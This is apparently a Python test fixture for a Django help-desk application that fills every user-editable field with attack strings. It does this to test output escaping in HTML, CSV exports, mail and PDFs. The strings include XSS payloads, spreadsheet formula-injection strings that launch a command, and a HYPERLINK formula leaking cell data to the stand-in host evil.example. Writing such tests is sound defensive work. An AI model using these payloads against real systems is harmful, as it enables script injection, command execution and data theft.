"""Rows whose every user-entered text is an attack: script tags, attribute break-outs, event handlers,
spreadsheet formulas and CR/LF. Shared by the XSS, export, mail and PDF tests."""

from __future__ import annotations

import datetime
from dataclasses import dataclass

from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils import timezone

from common import access as roles
from incidents import services
from incidents.models import SavedFilter, Ticket
from reports.models import ReportRun
from tests.factories import (
    AssetFactory,
    BuildingFactory,
    RequestFieldFactory,
    ServiceCategoryFactory,
    ServiceFactory,
    SiteFactory,
    SupportGroupFactory,
    TicketFactory,
    UserFactory,
)

from .conftest import PNG

XSS = (
    '<script>alert("xss1")</script>',
    '"><img src=x onerror=alert("xss2")>',
    '<details open ontoggle=alert("xss3")>',
)
# What must never appear raw in an HTML answer: the start of each payload's live markup.
RAW = (b'<script>alert("xss1")', b'<img src=x onerror=alert("xss2")', b'<details open ontoggle=alert("xss3")')
FORMULAS = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)
# Formulas after a separator a spreadsheet may split on (issue 16: `x;=cmd...` reached the CSV unquoted).
SEPARATED = (
    "x;=cmd|' /C calc'!A0;",
    "x,+cmd|' /C calc'!A0",
    "x\t-2+cmd|' /C calc'!A0",
    "x;  @SUM(1+1)*cmd|' /C calc'!A0",
    "x\n=1+1",
)


def xss(n: int, extra: str = "") -> str:
    return f"{XSS[n % 3]}{extra}"


@dataclass
class Hostile:
    requester: object
    technician: object
    superuser: object
    site: object
    asset: object
    service: object
    ticket: Ticket
    saved_filter: SavedFilter
    report_run: ReportRun


def hostile_world(group_member=None, month: datetime.date | None = None) -> Hostile:
    """Every text field a person can fill, filled with an attack; a ticket resolved, rated, major."""
    requester = UserFactory(
        username="mallory", role=roles.STAFF, first_name=xss(0, FORMULAS[0]), last_name=xss(1, SEPARATED[1])
    )
    technician = group_member or UserFactory(username="trudy", role=roles.TECHNICIAN, first_name=xss(2))
    superuser = UserFactory(username="root-admin", is_superuser=True, is_staff=True)
    group = SupportGroupFactory(name=xss(2, " group"))
    group.members.add(technician)
    category = ServiceCategoryFactory(name=xss(0, " category"))
    service = ServiceFactory(
        name=xss(1, " service"),
        description=xss(2, FORMULAS[1] + SEPARATED[3]),
        keywords=xss(0),
        category=category,
        support_group=group,
        offers_requests=True,
    )
    RequestFieldFactory(
        service=service,
        label=xss(0, " question"),
        help_text=xss(1),
        field_type="choice",
        choices=f"{xss(2)}\n{FORMULAS[0]}",
    )
    site = SiteFactory(name=xss(1, " site"))
    BuildingFactory(site=site, name=xss(2, " block"))
    asset = AssetFactory(
        asset_tag="TST-DSK-66601",
        site=site,
        make=xss(0),
        model=xss(1, FORMULAS[2] + SEPARATED[0]),
        notes=xss(2, SEPARATED[2]),
    )
    ticket = TicketFactory(
        requester=requester,
        service=service,
        site=site,
        asset=asset,
        summary=(SEPARATED[0] + " " + FORMULAS[0] + " " + xss(0))[:200],
        description="\n".join((*XSS, *FORMULAS)),
        impact="high",
        urgency="high",
    )
    services.ticket_comment(
        ticket=ticket,
        by=requester,
        body=xss(1, FORMULAS[3]),
        files=[SimpleUploadedFile(xss(2, ".png"), PNG)],
    )
    services.ticket_comment(ticket=ticket, by=technician, body=xss(2, " internal"), internal=True)
    services.ticket_take(ticket=Ticket.objects.get(pk=ticket.pk), by=technician)
    services.ticket_change_status(
        ticket=Ticket.objects.get(pk=ticket.pk),
        to="resolved",
        by=technician,
        resolution_code="fixed",
        resolution_note=xss(0, FORMULAS[4]),
    )
    ticket = Ticket.objects.get(pk=ticket.pk)
    services.ticket_rate(ticket=ticket, by=requester, score=1, comment=xss(1, FORMULAS[5]))
    Ticket.objects.filter(pk=ticket.pk).update(is_major=True)
    saved = SavedFilter.objects.create(user=technician, name=xss(1)[:60], query="q=%3Cscript%3E")
    month = month or timezone.localdate().replace(day=1)
    run = ReportRun.objects.create(
        month=month, version=7, commentary={"summary": xss(0), "major_incidents": xss(1, FORMULAS[6])}
    )
    return Hostile(
        requester=requester,
        technician=technician,
        superuser=superuser,
        site=site,
        asset=asset,
        service=service,
        ticket=Ticket.objects.get(pk=ticket.pk),
        saved_filter=saved,
        report_run=run,
    )
